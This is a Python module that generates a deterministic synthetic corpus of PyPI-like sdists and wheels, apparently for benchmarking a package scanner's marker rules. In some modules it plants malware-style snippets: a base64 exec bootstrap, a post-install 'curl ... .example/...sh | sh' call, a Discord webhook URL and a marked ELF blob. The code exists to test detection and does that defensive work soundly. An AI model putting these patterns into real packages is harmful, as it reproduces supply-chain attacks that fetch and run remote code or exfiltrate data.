"""A deterministic, offline generator of a synthetic corpus of PyPI-like releases.

Every release has one sdist (``name-version.tar.gz`` with a top directory ``name-version/``) and one wheel
(two platform wheels when it ships compiled extensions). The package's ``.py`` and data files are
byte-identical in the sdist and the wheels, as in real releases. Content:

* many small ``.py`` modules (200 B - 30 KB) of plausible Python built from a vocabulary;
* some data files (JSON / CSV / text, 100 KB - 2 MB) in about half of the releases;
* ``.so``-like binaries (ELF header, then random or partly compressible bytes) in about a third;
* ``PKG-INFO`` / ``METADATA`` / ``WHEEL`` / ``RECORD``, README, LICENSE, tests and C sources in the sdist;
* in a few releases, *markers*: snippets that the benchmark marker rules (``bench/rulesets.py``) match,
  plus a decoy that only a rule without a ``filetype`` filter may count.

Same spec -> byte-identical archives on the same zlib: a seeded ``random.Random``, sorted entries,
fixed mtimes, gzip header mtime 0 and no file name. The corpus is written once into a cache directory
(``~/.cache/dragonfly-hybrid/bench/synthetic-<params-hash>/``, or ``$DFH_BENCH_CACHE``) and reused.

``python -m bench.synthetic`` generates (or finds) the corpus for ``$DFH_BENCH_SCALE`` and prints its size.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import os
import random
import shutil
import tarfile
import tempfile
import zipfile
from collections.abc import Iterator
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import IO

GENERATOR_VERSION = 1
DEFAULT_SEED = 20_240_601
DEFAULT_RELEASES = 30
# Unique (not duplicated between sdist and wheels) inflated bytes per unit of scale. Calibrated so that
# scale 1.0 gives about 70 MB of archives (~180 MB inflated) over 30 releases.
BYTES_PER_SCALE = 82_000_000
TAR_MTIME = 1_700_000_000
ZIP_DATE_TIME = (2023, 11, 14, 22, 13, 20)

# --- markers (kept in sync with the marker rules in bench/rulesets.py) --------------------------------------
MARKER_EXEC_B64 = "exec(base64.b64decode("
MARKER_WEBHOOK = "https://discord.com/api/webhooks/"
MARKER_ELF = b"DFH_MARK"
MARKER_ELF_TAIL = b"\x13\x37\xc0\xde"


# --- vocabulary ---------------------------------------------------------------------------------------------
_WORDS = (
    "account action adapter address agent alias archive array asset async attempt attribute backend "
    "batch binary block body buffer builder bundle cache callback candidate channel chunk client code "
    "column command config connection context converter count cursor data database default delta "
    "descriptor device dialect digest directory document driver element encoder endpoint engine entry "
    "environment error event exception factory field file filter flag format frame function graph group "
    "handle handler hash header history hook identity image index input instance interval item job key "
    "label layer layout limit line link listener loader locale lock logger manager mapping marker matrix "
    "message meta method metric mode model module monitor name node number object offset option order "
    "output owner packet page parameter parser partition path pattern payload peer pipeline plugin point "
    "policy pool port prefix process profile project property protocol provider proxy query queue range "
    "reader record reference region registry renderer report request resolver resource response result "
    "retry revision role root route row rule runner sample scale schema scope secret segment selector "
    "sequence server service session setting shape signal size slot snapshot socket source span spec "
    "stage state status step storage store stream string style subject suffix summary symbol table tag "
    "target task template tensor text thread threshold ticket timeout token topic trace transaction "
    "transform tree trigger type unit user value vector version view volume watcher weight widget window "
    "worker writer zone"
).split()
_VERBS = (
    "add apply build check clean close collect compile compute convert copy create decode delete detect "
    "dump emit encode ensure extract fetch filter find flush format get handle init load lookup make "
    "merge normalize open parse patch pop process publish push read refresh register reload remove "
    "render replace reset resolve restore run save scan select send serialize set setup sort split start "
    "stop store strip sync transform update upload validate visit wait walk wrap write"
).split()
_ADJS = (
    "active async base cached current custom default dirty empty extra final global hidden inner "
    "internal last local lower max min native nested new old optional outer partial pending primary "
    "private raw remote safe shared simple single sorted static temp total upper valid"
).split()
_STDLIB = (
    "abc argparse asyncio base64 collections contextlib copy csv dataclasses datetime decimal enum "
    "functools glob hashlib heapq importlib inspect io itertools json logging math operator os pathlib "
    "pickle platform queue random re shutil signal socket sqlite3 string struct subprocess sys tempfile "
    "textwrap threading time traceback types typing urllib.parse uuid warnings weakref zipfile zlib"
).split()
_PROSE = (
    "the a this each every given current returned optional new internal underlying configured "
    "value values object objects item items list mapping result results request response file files "
    "path paths name names data buffer stream option options when if unless and or but with without "
    "from into for of to on in is are be will should may must returns raises creates updates stores "
    "reads writes parses checks handles ignores keeps uses calls builds converts"
).split()
_PROJECT_PARTS = (
    "fast json http data async py tool kit lib stream config cloud parse graph vector cache auth log "
    "image text net sql geo time crypto task queue web api ml num plot schema mock env cli yaml toml "
    "rpc grid form shell media audio pdf xml diff lint type flow"
).split()
_LICENSE = (
    "Permission is hereby granted, free of charge, to any person obtaining a copy of this software and "
    'associated documentation files (the "Software"), to deal in the Software without restriction, '
    "including without limitation the rights to use, copy, modify, merge, publish, distribute, sublicense, "
    "and/or sell copies of the Software, and to permit persons to whom the Software is furnished to do so, "
    'subject to the following conditions.\n\nTHE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY '
    "KIND, EXPRESS OR IMPLIED.\n"
)


# --- spec and results ---------------------------------------------------------------------------------------
@dataclass(frozen=True)
class CorpusSpec:
    """What to generate. ``scale`` multiplies the corpus size; ``releases`` defaults to ~30 x scale."""

    seed: int = DEFAULT_SEED
    scale: float = 1.0
    releases: int | None = None

    @property
    def release_count(self) -> int:
        if self.releases is not None:
            return max(1, self.releases)
        return max(2, round(DEFAULT_RELEASES * self.scale))

    @property
    def unique_bytes(self) -> int:
        return max(20_000, int(BYTES_PER_SCALE * self.scale))

    def params_hash(self) -> str:
        key = json.dumps(
            {
                "v": GENERATOR_VERSION,
                "seed": self.seed,
                "releases": self.release_count,
                "bytes": self.unique_bytes,
            },
            sort_keys=True,
        )
        return hashlib.sha256(key.encode()).hexdigest()[:12]


@dataclass
class Distribution:
    """One archive of the corpus."""

    release: str
    version: str
    filename: str
    path: Path
    size: int
    inflated: int
    files: int
    sha256: str
    markers: list[str] = field(default_factory=list)


class CorpusTotals:
    """Totals over ``distributions``, shared by the synthetic and the real corpus."""

    distributions: list[Distribution]

    @property
    def compressed_bytes(self) -> int:
        return sum(d.size for d in self.distributions)

    @property
    def inflated_bytes(self) -> int:
        return sum(d.inflated for d in self.distributions)

    @property
    def file_count(self) -> int:
        return sum(d.files for d in self.distributions)

    def describe(self) -> str:
        return (
            f"{len(self.distributions)} distributions, {self.file_count} files, "
            f"{self.compressed_bytes / 1e6:.1f} MB compressed, {self.inflated_bytes / 1e6:.1f} MB inflated"
        )


@dataclass
class Corpus(CorpusTotals):
    root: Path
    spec: CorpusSpec
    distributions: list[Distribution]


def spec_from_env() -> CorpusSpec:
    """``DFH_BENCH_SCALE`` (float, default 1.0) and ``DFH_BENCH_SEED`` (int)."""
    scale = float(os.environ.get("DFH_BENCH_SCALE", "1.0"))
    seed = int(os.environ.get("DFH_BENCH_SEED", str(DEFAULT_SEED)))
    return CorpusSpec(seed=seed, scale=scale)


def default_cache_dir() -> Path:
    if env := os.environ.get("DFH_BENCH_CACHE"):
        return Path(env)
    base = Path(os.environ.get("XDG_CACHE_HOME") or Path.home() / ".cache")
    return base / "dragonfly-hybrid" / "bench"


# --- content generators -------------------------------------------------------------------------------------
class _Text:
    """Plausible text and Python source from a seeded RNG."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng

    def ident(self) -> str:
        r = self.rng
        k = r.random()
        if k < 0.4:
            return r.choice(_WORDS)
        if k < 0.75:
            return f"{r.choice(_ADJS)}_{r.choice(_WORDS)}"
        return f"{r.choice(_WORDS)}_{r.choice(_WORDS)}"

    def func_name(self) -> str:
        r = self.rng
        name = f"{r.choice(_VERBS)}_{r.choice(_WORDS)}"
        return f"_{name}" if r.random() < 0.2 else name

    def class_name(self) -> str:
        r = self.rng
        return (
            r.choice(_ADJS).title() + r.choice(_WORDS).title() + r.choice(("", "Base", "Mixin", "Error", ""))
        )

    def sentence(self, lo: int = 5, hi: int = 14) -> str:
        words = self.rng.choices(_PROSE + _WORDS, k=self.rng.randint(lo, hi))
        return " ".join(words).capitalize() + "."

    def literal(self) -> str:
        r = self.rng
        k = r.random()
        if k < 0.3:
            return str(r.randint(0, 4096))
        if k < 0.5:
            return f'"{r.choice(_WORDS)}"'
        if k < 0.6:
            return r.choice(("None", "True", "False"))
        if k < 0.7:
            return f"{r.random() * 100:.2f}"
        if k < 0.85:
            return f"({self.ident()}, {self.ident()})"
        return f'"{r.choice(_WORDS)}-{r.choice(_WORDS)}"'

    def expr(self) -> str:
        r = self.rng
        k = r.random()
        if k < 0.3:
            args = ", ".join(self.ident() for _ in range(r.randint(0, 3)))
            return f"{self.func_name()}({args})"
        if k < 0.5:
            return f'self.{self.ident()}.get("{r.choice(_WORDS)}", {self.literal()})'
        if k < 0.65:
            return f"{self.ident()}.{r.choice(_VERBS)}({self.literal()})"
        if k < 0.75:
            return f"[{self.ident()} for {self.ident()} in {self.ident()} if {self.ident()}]"
        if k < 0.85:
            return f"{self.ident()} + {self.literal()}"
        return self.literal()

    def body(self, indent: str, lines: int) -> list[str]:
        r = self.rng
        out: list[str] = []
        inner = indent + "    "
        while len(out) < lines:
            k = r.random()
            if k < 0.35:
                out.append(f"{indent}{self.ident()} = {self.expr()}")
            elif k < 0.45:
                v = self.ident()
                out.append(f"{indent}if {v} is None:")
                if r.random() < 0.5:
                    out.append(f'{inner}raise ValueError(f"invalid {r.choice(_WORDS)}: {{{v}!r}}")')
                else:
                    out.append(f"{inner}return {self.literal()}")
            elif k < 0.55:
                v = r.choice(_WORDS)
                out.append(f"{indent}for {v} in {self.ident()}:")
                out.append(f"{inner}{self.ident()}.append({v}.{r.choice(_WORDS)})")
            elif k < 0.63:
                out.append(f"{indent}# {self.sentence(4, 12)}")
            elif k < 0.7:
                level = r.choice(("debug", "info", "warning"))
                out.append(f'{indent}logger.{level}("{self.sentence(3, 7)} %s", {self.ident()})')
            elif k < 0.75:
                out.append(f'{indent}with open({self.ident()}, "rb") as fh:')
                out.append(f"{inner}{self.ident()} = fh.read()")
            elif k < 0.8:
                out.append(f"{indent}try:")
                out.append(f"{inner}{self.ident()} = {self.expr()}")
                out.append(f"{indent}except (OSError, ValueError) as exc:")
                out.append(f'{inner}raise RuntimeError("{self.sentence(3, 6)}") from exc')
            elif k < 0.88:
                out.append(f"{indent}self.{self.ident()} = {self.expr()}")
            else:
                out.append(f"{indent}{self.expr()}")
        out.append(f"{indent}return {self.ident()}")
        return out

    def function(self, indent: str = "", method: bool = False) -> str:
        r = self.rng
        args = [self.ident() for _ in range(r.randint(0, 4))]
        if r.random() < 0.4 and args:
            args[-1] += f"={self.literal()}"
        if method:
            args.insert(0, "self")
        ret = r.choice(("", "", " -> None", " -> str", " -> int", " -> dict", " -> list"))
        lines = [f"{indent}def {self.func_name()}({', '.join(args)}){ret}:"]
        if r.random() < 0.7:
            lines.append(f'{indent}    """{self.sentence()}')
            if r.random() < 0.5:
                lines.append("")
                lines.extend(f"{indent}    {self.sentence(6, 16)}" for _ in range(r.randint(1, 3)))
            lines.append(f'{indent}    """')
        lines.extend(self.body(indent + "    ", r.randint(2, 18)))
        return "\n".join(lines) + "\n\n"

    def klass(self) -> str:
        r = self.rng
        lines = [f"class {self.class_name()}:", f'    """{self.sentence()}"""', ""]
        for _ in range(r.randint(1, 3)):
            lines.append(
                f"    {self.ident()}: {r.choice(('int', 'str', 'float', 'bool'))} = {self.literal()}"
            )
        text = "\n".join(lines) + "\n\n"
        for _ in range(r.randint(1, 5)):
            text += self.function("    ", method=True)
        return text + "\n"

    def python_module(self, target: int, extra: str = "") -> bytes:
        r = self.rng
        parts = [f'"""{self.sentence()}\n\n{self.sentence(8, 20)}\n"""\n\n']
        mods = sorted(r.sample(_STDLIB, r.randint(1, 7)))
        parts.extend(f"import {m}\n" for m in mods)
        if r.random() < 0.5:
            parts.append(f"from .{r.choice(_WORDS)} import {self.class_name()}, {self.func_name()}\n")
        parts.append("\nlogger = logging.getLogger(__name__)\n\n")
        for _ in range(r.randint(0, 4)):
            parts.append(f"{r.choice(_WORDS).upper()}_{r.choice(_WORDS).upper()} = {self.literal()}\n")
        parts.append("\n\n")
        size = sum(len(p) for p in parts)
        while size < target:
            block = self.klass() if r.random() < 0.3 else self.function()
            parts.append(block)
            size += len(block)
        if extra:
            parts.append(extra)
        return "".join(parts).encode()

    def c_source(self, target: int) -> bytes:
        r = self.rng
        parts = ["#include <Python.h>\n#include <string.h>\n\n"]
        size = len(parts[0])
        while size < target:
            name = self.func_name()
            body = "".join(
                f"    {r.choice(('int', 'size_t', 'PyObject *', 'double'))} {r.choice(_WORDS)}_{i} = "
                f"{r.choice(_VERBS)}_{r.choice(_WORDS)}({r.choice(_WORDS)}, {r.randint(0, 255)});\n"
                for i in range(r.randint(2, 12))
            )
            block = (
                f"static PyObject *\n{name}(PyObject *self, PyObject *args)\n"
                f"{{\n{body}    Py_RETURN_NONE;\n}}\n\n"
            )
            parts.append(block)
            size += len(block)
        return "".join(parts).encode()

    def json_data(self, target: int) -> bytes:
        r = self.rng
        keys = [r.choice(_WORDS) for _ in range(r.randint(3, 7))]
        parts = ["[\n"]
        size = 2
        first = True
        while size < target:
            fields = []
            for key in keys:
                k = r.random()
                if k < 0.3:
                    value = str(r.randint(0, 100_000))
                elif k < 0.55:
                    value = f"{r.random() * 1000:.3f}"
                elif k < 0.85:
                    value = f'"{r.choice(_ADJS)} {r.choice(_WORDS)}"'
                else:
                    value = r.choice(("true", "false", "null"))
                fields.append(f'"{key}": {value}')
            row = ("" if first else ",\n") + "  {" + ", ".join(fields) + "}"
            first = False
            parts.append(row)
            size += len(row)
        parts.append("\n]\n")
        return "".join(parts).encode()

    def csv_data(self, target: int) -> bytes:
        r = self.rng
        cols = r.randint(4, 9)
        parts = [",".join(r.choice(_WORDS) for _ in range(cols)) + "\n"]
        size = len(parts[0])
        while size < target:
            row = ",".join(
                str(r.randint(0, 9999)) if r.random() < 0.5 else f"{r.gauss(0, 50):.4f}" for _ in range(cols)
            )
            row += "\n"
            parts.append(row)
            size += len(row)
        return "".join(parts).encode()

    def text_data(self, target: int) -> bytes:
        parts: list[str] = []
        size = 0
        while size < target:
            line = f"{self.rng.choice(_WORDS)}\t{self.sentence(3, 10)}\n"
            parts.append(line)
            size += len(line)
        return "".join(parts).encode()

    def binary(self, target: int, compressible: bool) -> bytes:
        r = self.rng
        out = bytearray(b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x03\x00\x3e\x00\x01\x00\x00\x00")
        blocks: list[bytes] = []
        while len(out) < target:
            n = r.randint(512, 8192)
            k = r.random()
            if not compressible or k < 0.45:
                block = r.randbytes(n)
            elif k < 0.65:
                block = bytes(n)
            elif k < 0.85 and blocks:
                block = r.choice(blocks)
            else:
                block = (r.randbytes(r.randint(4, 32)) * (n // 4 + 1))[:n]
            if len(blocks) < 64:
                blocks.append(block)
            out += block
        return bytes(out[:target])


# --- releases -----------------------------------------------------------------------------------------------
@dataclass
class _Release:
    project: str
    version: str
    package: str
    # archive-relative paths (without the sdist's top dir) -> content
    shared: dict[str, bytes]
    sdist_only: dict[str, bytes]
    # one dict per wheel: tag -> wheel-only files (.so)
    wheels: dict[str, dict[str, bytes]]
    markers: dict[str, list[str]]  # "sdist"/"wheel" -> marker names


def _log_size(rng: random.Random, lo: int, hi: int, median: float, sigma: float) -> int:
    return int(min(hi, max(lo, rng.lognormvariate(0, sigma) * median)))


def _metadata(project: str, version: str, text: _Text) -> bytes:
    r = text.rng
    requires = "".join(
        f"Requires-Dist: {r.choice(_PROJECT_PARTS)}{r.choice(_PROJECT_PARTS)}"
        f">={r.randint(0, 5)}.{r.randint(0, 20)}\n"
        for _ in range(r.randint(0, 6))
    )
    return (
        f"Metadata-Version: 2.1\nName: {project}\nVersion: {version}\nSummary: {text.sentence(4, 9)}\n"
        f"Author-email: {r.choice(_WORDS)} <{r.choice(_WORDS)}@example.org>\nLicense: MIT\n"
        f"Requires-Python: >=3.{r.randint(7, 10)}\n{requires}"
        f"Description-Content-Type: text/markdown\n\n# {project}\n\n{text.sentence(10, 30)}\n"
    ).encode()


def _marker_snippet(rng: random.Random, kind: str) -> str:
    if kind == "exec_b64":
        blob = base64.b64encode(rng.randbytes(rng.randint(40, 400))).decode()
        return f'\n\ndef _bootstrap():\n    import base64\n    {MARKER_EXEC_B64}"{blob}"))\n'
    if kind == "curl_sh":
        host = f"{rng.choice(_WORDS)}-{rng.choice(_WORDS)}.example"
        script = rng.choice(_WORDS)
        return f'\n\ndef _post_install():\n    os.system("curl -s https://{host}/{script}.sh | sh")\n'
    if kind == "webhook":
        token = base64.urlsafe_b64encode(rng.randbytes(48)).decode().rstrip("=")
        return f'\n\n_HOOK = "{MARKER_WEBHOOK}{rng.randint(10**17, 10**18)}/{token}"\n'
    raise ValueError(kind)


def _make_release(rng: random.Random, index: int, budget: int, used_names: set[str]) -> _Release:
    text = _Text(rng)
    while True:
        project = rng.choice(_PROJECT_PARTS) + rng.choice(("", "-", "_")) + rng.choice(_PROJECT_PARTS)
        if project not in used_names:
            break
        project = f"{project}{index}"
        if project not in used_names:
            break
    used_names.add(project)
    version = f"{rng.randint(0, 5)}.{rng.randint(0, 30)}.{rng.randint(0, 12)}"
    package = project.replace("-", "_")

    has_binary = rng.random() < 0.33
    has_data = rng.random() < 0.5
    bin_budget = int(budget * rng.uniform(0.25, 0.45)) if has_binary else 0
    data_budget = int(budget * rng.uniform(0.2, 0.5)) if has_data else 0
    py_budget = max(2_000, budget - bin_budget - data_budget)

    shared: dict[str, bytes] = {}
    sdist_only: dict[str, bytes] = {}
    subpkgs = [""] + [f"{rng.choice(_WORDS)}/" for _ in range(rng.randint(0, 6))]
    for sub in subpkgs:
        shared[f"{package}/{sub}__init__.py"] = text.python_module(rng.randint(50, 600))
    used = sum(len(v) for v in shared.values())
    py_paths: list[str] = []
    while used < py_budget:
        size = _log_size(rng, 200, 30_000, 3_000, 1.0)
        path = f"{package}/{rng.choice(subpkgs)}{text.func_name().lstrip('_')}.py"
        if path in shared:
            continue
        shared[path] = text.python_module(size)
        py_paths.append(path)
        used += len(shared[path])
    while data_budget > 0:
        size = min(data_budget, _log_size(rng, 100_000, 2_000_000, 400_000, 0.8))
        kind = rng.choice(("json", "csv", "txt"))
        path = f"{package}/data/{rng.choice(_WORDS)}_{rng.choice(_WORDS)}.{kind}"
        if path in shared:
            continue
        gen = {"json": text.json_data, "csv": text.csv_data, "txt": text.text_data}[kind]
        shared[path] = gen(size)
        data_budget -= size
    shared[f"{package}/py.typed"] = b""

    sdist_only["README.md"] = (
        f"# {project}\n\n{text.sentence(20, 60)}\n\n## Usage\n\n{text.sentence(20, 40)}\n".encode()
    )
    sdist_only["LICENSE"] = _LICENSE.encode()
    sdist_only["pyproject.toml"] = (
        f'[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n\n'
        f'[project]\nname = "{project}"\nversion = "{version}"\n'
    ).encode()
    if rng.random() < 0.5:
        sdist_only["setup.py"] = b"from setuptools import setup\n\nsetup()\n"
    for _ in range(rng.randint(1, 8)):
        sdist_only[f"tests/test_{rng.choice(_WORDS)}_{rng.choice(_WORDS)}.py"] = text.python_module(
            _log_size(rng, 200, 20_000, 2_000, 0.8)
        )

    wheels: dict[str, dict[str, bytes]] = {}
    if has_binary:
        n_ext = rng.randint(1, 4)
        ext_names = [f"_{rng.choice(_WORDS)}" for _ in range(n_ext)]
        for name in ext_names:
            sdist_only[f"src/{name}.c"] = text.c_source(_log_size(rng, 2_000, 60_000, 15_000, 0.8))
        for py in ("cp311", "cp312"):
            tag = f"{py}-{py}-manylinux_2_17_x86_64.manylinux2014_x86_64"
            files: dict[str, bytes] = {}
            per_wheel = bin_budget // 2
            for i, name in enumerate(ext_names):
                size = max(10_000, per_wheel // n_ext)
                files[f"{package}/{name}.cpython-{py[2:]}-x86_64-linux-gnu.so"] = text.binary(
                    size, i % 2 == 0
                )
            wheels[tag] = files
    else:
        wheels["py3-none-any"] = {}

    # Markers: release 0 always, a few others by chance; the same bytes land in the sdist and the wheels.
    markers: dict[str, list[str]] = {"sdist": [], "wheel": []}
    if py_paths and (index == 0 or rng.random() < 0.2):
        for kind in rng.sample(("exec_b64", "curl_sh", "webhook"), rng.randint(1, 2)):
            path = rng.choice(py_paths)
            shared[path] += _marker_snippet(rng, kind).encode()
            markers["sdist"].append(kind)
            markers["wheel"].append(kind)
    if has_binary and (index == 0 or rng.random() < 0.3):
        tag = sorted(wheels)[0]
        path = sorted(wheels[tag])[0]
        blob = bytearray(wheels[tag][path])
        at = rng.randint(64, max(64, len(blob) - 64))
        mark = MARKER_ELF + rng.randbytes(rng.randint(4, 32)) + MARKER_ELF_TAIL
        blob[at : at + len(mark)] = mark
        wheels[tag][path] = bytes(blob)
        markers["wheel"].append(f"elf:{tag}")
    if index == 1 or rng.random() < 0.1:
        # A decoy: the exec marker in a non-.py file (rules with filetype ".py" must not count it).
        decoy = f"{package}/data/snippets.txt"
        shared[decoy] = f"example = {MARKER_EXEC_B64}'aGVsbG8='))\n".encode() + text.text_data(2_000)
        markers["sdist"].append("decoy")
        markers["wheel"].append("decoy")
    return _Release(project, version, package, shared, sdist_only, wheels, markers)


# --- archive writers ----------------------------------------------------------------------------------------
def _tar_gz(entries: dict[str, bytes]) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name in sorted(entries):
            data = entries[name]
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = TAR_MTIME
            info.mode = 0o644
            info.uid = info.gid = 0
            info.uname = info.gname = ""
            tar.addfile(info, io.BytesIO(data))
    out = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=out, mtime=0, compresslevel=9) as gz:
        gz.write(raw.getvalue())
    return out.getvalue()


def write_zip(out: Path | IO[bytes], entries: list[tuple[str, bytes]]) -> None:
    """A deterministic zip of ``entries`` (fixed times and attributes, deflate level 6) written to ``out``."""
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=ZIP_DATE_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            info.create_system = 3
            zf.writestr(info, data, compresslevel=6)


def _zip(entries: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    write_zip(out, entries)
    return out.getvalue()


def _record_line(path: str, data: bytes) -> str:
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).decode().rstrip("=")
    return f"{path},sha256={digest},{len(data)}\n"


def _archives(release: _Release, text: _Text) -> Iterator[tuple[str, bytes, int, int, list[str]]]:
    """(file name, archive bytes, inflated bytes, file count, markers) for the sdist, then each wheel."""
    meta = _metadata(release.project, release.version, text)
    top = f"{release.project}-{release.version}"
    sdist = {f"{top}/{p}": d for p, d in {**release.shared, **release.sdist_only}.items()}
    sdist[f"{top}/PKG-INFO"] = meta
    yield (
        f"{top}.tar.gz",
        _tar_gz(sdist),
        sum(len(d) for d in sdist.values()),
        len(sdist),
        release.markers["sdist"],
    )
    dist_info = f"{release.package}-{release.version}.dist-info"
    for tag in sorted(release.wheels):
        files = {**release.shared, **release.wheels[tag]}
        entries = [(p, files[p]) for p in sorted(files)]
        entries.append((f"{dist_info}/LICENSE", release.sdist_only["LICENSE"]))
        entries.append((f"{dist_info}/METADATA", meta))
        pure = "true" if tag == "py3-none-any" else "false"
        entries.append(
            (
                f"{dist_info}/WHEEL",
                f"Wheel-Version: 1.0\nGenerator: bench\nRoot-Is-Purelib: {pure}\nTag: {tag}\n".encode(),
            )
        )
        entries.append((f"{dist_info}/top_level.txt", f"{release.package}\n".encode()))
        record = "".join(_record_line(p, d) for p, d in entries) + f"{dist_info}/RECORD,,\n"
        entries.append((f"{dist_info}/RECORD", record.encode()))
        markers = [m for m in release.markers["wheel"] if not m.startswith("elf:") or m == f"elf:{tag}"]
        yield (
            f"{release.package}-{release.version}-{tag}.whl",
            _zip(entries),
            sum(len(d) for _, d in entries),
            len(entries),
            [m.split(":")[0] for m in markers],
        )


def iter_archives(spec: CorpusSpec) -> Iterator[tuple[str, str, str, bytes, int, int, list[str]]]:
    """Generate the corpus in memory: (project, version, file name, bytes, inflated, files, markers)."""
    rng = random.Random(spec.seed)
    n = spec.release_count
    weights = [rng.lognormvariate(0, 0.9) for _ in range(n)]
    total = sum(weights)
    used_names: set[str] = set()
    for index, weight in enumerate(weights):
        budget = max(10_000, int(spec.unique_bytes * weight / total))
        release_rng = random.Random(f"{spec.seed}:{index}")
        release = _make_release(release_rng, index, budget, used_names)
        for filename, data, inflated, files, markers in _archives(release, _Text(release_rng)):
            yield release.project, release.version, filename, data, inflated, files, markers


# --- on disk ------------------------------------------------------------------------------------------------
def generate(dest: Path, spec: CorpusSpec) -> Corpus:
    """Write the corpus under ``dest`` (``dest/dists/*`` and ``dest/manifest.json``)."""
    dists_dir = dest / "dists"
    dists_dir.mkdir(parents=True, exist_ok=True)
    distributions: list[Distribution] = []
    for project, version, filename, data, inflated, files, markers in iter_archives(spec):
        path = dists_dir / filename
        path.write_bytes(data)
        distributions.append(
            Distribution(
                release=project,
                version=version,
                filename=filename,
                path=path,
                size=len(data),
                inflated=inflated,
                files=files,
                sha256=hashlib.sha256(data).hexdigest(),
                markers=markers,
            )
        )
    manifest = {
        "generator_version": GENERATOR_VERSION,
        "spec": asdict(spec),
        "distributions": [{**asdict(d), "path": d.filename} for d in distributions],
    }
    (dest / "manifest.json").write_text(json.dumps(manifest, indent=1) + "\n")
    return Corpus(dest, spec, distributions)


def load(root: Path, spec: CorpusSpec) -> Corpus | None:
    """The corpus in ``root`` if its manifest is complete and every archive has the recorded size."""
    try:
        manifest = json.loads((root / "manifest.json").read_text())
    except (OSError, ValueError):
        return None
    if manifest.get("generator_version") != GENERATOR_VERSION:
        return None
    distributions = []
    for entry in manifest["distributions"]:
        path = root / "dists" / entry["filename"]
        try:
            if path.stat().st_size != entry["size"]:
                return None
        except OSError:
            return None
        distributions.append(Distribution(**{**entry, "path": path}))
    return Corpus(root, spec, distributions)


def ensure_corpus(spec: CorpusSpec | None = None, cache_dir: Path | None = None) -> Corpus:
    """Generate the corpus into the cache once; later calls reuse it."""
    spec = spec or spec_from_env()
    cache_dir = cache_dir or default_cache_dir()
    root = cache_dir / f"synthetic-{spec.params_hash()}"
    corpus = load(root, spec)
    if corpus is not None:
        return corpus
    cache_dir.mkdir(parents=True, exist_ok=True)
    tmp = Path(tempfile.mkdtemp(prefix=f".{root.name}-", dir=cache_dir))
    try:
        generate(tmp, spec)
        shutil.rmtree(root, ignore_errors=True)
        tmp.rename(root)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    corpus = load(root, spec)
    assert corpus is not None
    return corpus


if __name__ == "__main__":
    import time

    t0 = time.perf_counter()
    c = ensure_corpus()
    print(f"{c.root}: {c.describe()} ({time.perf_counter() - t0:.1f} s)")
